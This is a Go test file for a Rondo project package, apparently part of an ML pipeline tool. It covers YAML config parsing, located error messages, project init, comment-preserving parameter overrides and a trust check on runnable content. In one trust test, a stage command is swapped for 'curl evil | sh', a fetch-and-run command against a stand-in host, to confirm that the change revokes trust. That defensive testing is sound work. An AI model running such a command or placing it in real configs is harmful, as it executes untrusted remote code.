package project_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rondo/backend/errs"
	"rondo/backend/project"
)

const weather = `rondo: 1
name: weather
datasets:
  weather:
    path: data/weather.csv
    feedback:
      endpoint: weather
      columns: {location: attribute.location, wet: truth.label}
stages:
  prepare: {cmd: rondo step prepare, deps: [data/weather.csv], params: [prepare, other.yaml: [a.b]], outs: [work/train.csv, work/holdout.csv]}
  evaluate:
    cmd:
      - rondo step evaluate
    deps: [work/holdout.csv]
    metrics: [metrics.json: {cache: false}]
    plots: [plots/roc.csv: {x: fpr, y: tpr}]
models:
  weather:
    path: model
    gates:
      - {name: floor, metric: recall, per: class, min: 0.4}
endpoints:
  weather: {model: weather, alias: champion, capture: 0.5}
monitors:
  weather: {endpoint: weather, window: {every: 24h}, drift: {ks: 0.15}, alert: {windows: 2, of: 3}, quality: {accuracy: {min: 0.7}}}
triggers:
  drift: {on: drift, monitor: weather, windows: 2, require: {labelled: 300}, model: weather, policy: automatic, cooldown: 1h, per_day: 4}
`

func TestParseReadsEverySection(t *testing.T) {
	f, err := project.Parse("rondo.yaml", []byte(weather))
	if err != nil {
		t.Fatal(err)
	}
	p := f.Stages["prepare"].Params
	if len(p) != 2 || p[1].File != "other.yaml" || p[1].Keys[0] != "a.b" {
		t.Errorf("params = %+v", p)
	}
	if e := f.Stages["evaluate"]; !e.Metrics[0].NoCache || e.Plots[0].Plot["x"] != "fpr" || e.Cmd[0] != "rondo step evaluate" {
		t.Errorf("evaluate = %+v", e)
	}
	if f.Queue.Parallel != 1 || f.Endpoints["weather"].CaptureShare() != 0.5 || f.Monitors["weather"].Window.Every.Std().Hours() != 24 {
		t.Errorf("file = %+v", f)
	}
}

func TestParseErrorsNamePlaceAndWayOut(t *testing.T) {
	cases := map[string]struct{ text, place, hint string }{
		"unknown key":     {"rondo: 1\nstages:\n  a: {cmd: x, depz: [y]}\n", "rondo.yaml:3:15: unknown key \"depz\"", "deps"},
		"broken yaml":     {"rondo: 1\nname: [a\n", "rondo.yaml:2:", ""},
		"unknown link":    {"rondo: 1\ndata: {link: symlink}\n", "rondo.yaml:2:8: data.link: \"symlink\"", "hardlink"},
		"newer":           {"rondo: 9\n", "rondo.yaml:1:1: rondo: format 9", "get a Rondo"},
		"wrong type":      {"rondo: 1\nqueue: {parallel: many}\n", "rondo.yaml:2:19:", ""},
		"missing cmd":     {"rondo: 1\nstages:\n  a: {deps: [x]}\n", "rondo.yaml:3:3: stages.a.cmd", "command"},
		"escape":          {"rondo: 1\nstages:\n  a: {cmd: x, deps: [../x]}\n", "rondo.yaml:3:22: stages.a.deps[0]", "inside"},
		"own folder":      {"rondo: 1\nstages:\n  a: {cmd: x, outs: [.rondo/x]}\n", "not a path inside", "inside"},
		"unknown model":   {"rondo: 1\nendpoints:\n  a: {model: b}\n", "rondo.yaml:3:7: endpoints.a.model", "models:"},
		"alias":           {"rondo: 1\nname: &a x\ndatasets: {b: {path: *a}}\n", "anchors", "write the value"},
		"one in another":  {"rondo: 1\ndatasets:\n  a: {path: d/x.csv}\n  b: {path: ./d}\n", "rondo.yaml:4:7: datasets.b.path", "do not contain each other"},
		"side by side":    {"rondo: 1\ndatasets:\n  a: {path: d}\n  b: {path: d2}\n  c: {path: d/}\n", "rondo.yaml:5:7: datasets.c.path", "one dataset for both"},
		"boundless gate":  {"rondo: 1\nmodels:\n  m: {path: m, gates: [{name: g, metric: x}]}\n", "no bound", "min:"},
		"duplicate key":   {"rondo: 1\nname: a\nname: b\n", "rondo.yaml:3:1:", ""},
		"empty":           {"", "rondo.yaml:1:1", "rondo: 1"},
		"bad duration":    {"rondo: 1\ntriggers:\n  t: {on: manual, cooldown: soon}\n", "rondo.yaml:3:29: \"soon\"", ""},
		"unknown trigger": {"rondo: 1\ntriggers:\n  t: {on: moon}\n", "rondo.yaml:3:7: triggers.t.on", "manual"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := project.Parse("rondo.yaml", []byte(c.text))
			if err == nil || !strings.Contains(err.Error(), c.place) || !strings.Contains(errs.HintOf(err), c.hint) {
				t.Errorf("got %v (hint %q), want %q (hint %q)", err, errs.HintOf(err), c.place, c.hint)
			}
			if err != nil && errs.KindOf(err) != errs.Invalid {
				t.Errorf("kind %v", errs.KindOf(err))
			}
		})
	}
}

func TestInitFindAndNewerFormat(t *testing.T) {
	dir := t.TempDir()
	p, err := project.Init(dir, "demo")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := project.Init(dir, "demo"); errs.KindOf(err) != errs.Conflict {
		t.Errorf("second init: %v", err)
	}
	sub := filepath.Join(dir, "a", "b")
	os.MkdirAll(sub, 0o755)
	if q, err := project.Find(sub); err != nil || q.ID != p.ID {
		t.Fatalf("find: %+v %v", q, err)
	}
	if _, err := p.Read(); err != nil {
		t.Errorf("fresh rondo.yaml: %v", err)
	}
	os.WriteFile(p.Path(".rondo", "format"), []byte("rondo 2\nproject "+p.ID+"\n"), 0o644)
	q, err := project.Open(dir)
	if err != nil || q.ReadOnly == "" || errs.KindOf(q.Writable()) != errs.Precondition {
		t.Errorf("newer format: %+v %v", q, err)
	}
	os.WriteFile(p.Path(".rondo", "format"), []byte("garbage"), 0o644)
	if _, err := project.Find(sub); errs.KindOf(err) != errs.Corrupt {
		t.Errorf("damaged marker: %v", err)
	}
	if _, err := project.Find(t.TempDir()); errs.KindOf(err) != errs.NotFound {
		t.Errorf("outside: %v", err)
	}
}

func TestTrustIsForExactlyWhatCanRun(t *testing.T) {
	dir := t.TempDir()
	f, _ := project.Parse("rondo.yaml", []byte(weather))
	tr := project.OpenTrust(dir)
	if err := tr.Check(f); errs.KindOf(err) != errs.Denied {
		t.Fatalf("untrusted file: %v", err)
	}
	if err := tr.Grant(f, f.TrustDigest()); err != nil {
		t.Fatal(err)
	}
	if err := project.OpenTrust(dir).Check(f); err != nil {
		t.Errorf("trusted file: %v", err)
	}
	threshold, _ := project.Parse("rondo.yaml", []byte(strings.Replace(weather, "ks: 0.15", "ks: 0.2", 1)))
	if err := tr.Check(threshold); err != nil {
		t.Errorf("a threshold is nothing to execute: %v", err)
	}
	for _, edit := range [][2]string{{"rondo step evaluate", "curl evil | sh"}, {"policy: automatic", "policy: ask"}, {"on: drift", "on: manual"}} {
		g, err := project.Parse("rondo.yaml", []byte(strings.Replace(weather, edit[0], edit[1], 1)))
		if err != nil {
			t.Fatal(err)
		}
		if errs.KindOf(tr.Check(g)) != errs.Denied {
			t.Errorf("changed %q is still trusted", edit[0])
		}
		if errs.KindOf(tr.Grant(g, f.TrustDigest())) != errs.Conflict {
			t.Errorf("granted a digest that is not the file's")
		}
	}
}

func TestOverrideParamsKeepsComments(t *testing.T) {
	path := filepath.Join(t.TempDir(), "params.yaml")
	os.WriteFile(path, []byte("# about\ntrain:\n  lr: 0.1 # rate\n  kind: \"3\"\nprepare: {cities: [a, b]}\n"), 0o644)
	if err := project.OverrideParams(path, map[string]string{"train.lr": "0.5", "train.new": "7", "prepare.cities": "[c]"}); err != nil {
		t.Fatal(err)
	}
	v, err := new(project.ParamsReader).Read(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"train.lr": "0.5", "train.new": "7", "train.kind": "3", "prepare.cities": `["c"]`}
	got := v.Flat()
	for k, w := range want {
		if got[k] != w {
			t.Errorf("%s = %q, want %q", k, got[k], w)
		}
	}
	os.WriteFile(path, []byte("# about\ntrain:\n  lr: 0.1 # rate\n"), 0o644)
	if err := project.OverrideParams(path, map[string]string{"train.lr": "0.5"}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(path); !strings.Contains(string(b), "# about") || !strings.Contains(string(b), "0.5") {
		t.Errorf("comment lost:\n%s", b)
	}
	if err := project.OverrideParams(path, map[string]string{"train.lr.x": "1"}); errs.KindOf(err) != errs.Invalid {
		t.Errorf("a key under a number: %v", err)
	}
}

// TestPipelinesOfThousandsOfStagesAreRead reads a file as it comes from a DVC project with many
// stages of a foreach.
func TestPipelinesOfThousandsOfStagesAreRead(t *testing.T) {
	var b strings.Builder
	b.WriteString("rondo: 1\nstages:\n")
	for i := range 20_000 {
		fmt.Fprintf(&b, "  train@%d:\n    cmd: python train.py --fold %d\n    deps: [data/%d.csv, train.py]\n    params: [train.lr]\n    outs:\n      - models/%d\n", i, i, i, i)
	}
	f, err := project.Parse("rondo.yaml", []byte(b.String()))
	if err != nil || len(f.Stages) != 20_000 || f.Stages["train@19999"].Outs[0].Path != "models/19999" {
		t.Fatalf("%v", err)
	}
	if got := f.Where(".stages.train@19999.deps[1]"); got != "rondo.yaml:119999:28" {
		t.Errorf("the last stage's second dep is at %s", got)
	}
}

// TestOverrideParamsWritesAnewWithComments changes what cannot be swapped on its line: a list over
// several lines, and a key that is new. Order, comments and what else is there stay.
func TestOverrideParamsWritesAnewWithComments(t *testing.T) {
	path := filepath.Join(t.TempDir(), "params.yaml")
	const before = "# about\nz: 1e-3 # small\ntrain:\n  # which\n  layers:\n  - 1\n  - 2\n  name: \"no\"\na: 0x1F\n"
	os.WriteFile(path, []byte(before), 0o644)
	if err := project.OverrideParams(path, map[string]string{"train.layers": "[3]", "train.new.deep": "1e-4", "z": "0.5"}); err != nil {
		t.Fatal(err)
	}
	const want = "# about\nz: 0.5 # small\ntrain:\n  # which\n  layers: [3]\n  name: \"no\"\n  new:\n    deep: 1e-4\na: 0x1F\n"
	if b, _ := os.ReadFile(path); string(b) != want {
		t.Errorf("%s\nwant\n%s", b, want)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(weather))
	f.Add([]byte("rondo: 1\nstages: {a: {cmd: [x], params: [{f: }]}}"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if _, err := project.Parse("rondo.yaml", b); err != nil && errs.KindOf(err) != errs.Invalid && errs.KindOf(err) != errs.TooLarge {
			t.Errorf("kind %v: %v", errs.KindOf(err), err)
		}
		if v, err := project.ParseParams("params.yaml", b); err == nil {
			v.Flat()
		}
	})
}
